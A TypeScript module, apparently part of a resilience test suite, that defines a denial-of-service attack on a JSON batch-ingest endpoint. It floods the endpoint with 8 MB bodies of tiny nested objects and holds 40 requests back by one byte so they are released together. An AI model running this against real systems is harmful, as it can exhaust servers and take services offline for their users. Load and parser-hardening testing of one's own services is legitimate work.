/** 3: bodies that are small to send and large to parse, one after the other and many in the same moment. */
import type { Attack, Target } from '../attack.ts';
import { flood } from '../flood.ts';
import { letGoTogether } from '../held-back.ts';
import { requestOf } from '../line.ts';

/** What a batch may have. */
const BODY_BYTES = 8 * 1024 * 1024;
const CONNECTIONS = 2;
const HELD = 40;

function requestOfBraces({ tenant }: Target): Buffer {
  const begin = '{"a":["\\u0041"';
  const body = `${begin}${',{}'.repeat(Math.floor((BODY_BYTES - begin.length - 2) / 3))}]}`;
  return requestOf({ path: '/api/ingest/batch', headers: { 'X-Tenant-ID': tenant.id }, body });
}

export const shapes: Attack = {
  number: 3,
  name: 'shapes',
  parts: [
    {
      name: 'one by one',
      what: `${CONNECTIONS} connections that post 8 MB of {"a":["\\u0041",{},{},…]}`,
      async strike(target, isOver) {
        const request = requestOfBraces(target);
        const answers = await flood({ callers: CONNECTIONS, url: target.url, isOver, request: () => request });
        return { bodies: answers.length };
      },
    },
    {
      name: 'held back',
      what: `${HELD} of these, held back by one byte and let go together`,
      async strike(target, isOver) {
        const { url } = target;
        const request = requestOfBraces(target);
        let letGo = 0;
        while (!isOver())
          letGo += await letGoTogether({ url, sockets: HELD, request, from: request.length - 1, isOver });
        return { 'bodies let go or refused': letGo };
      },
    },
  ],
};
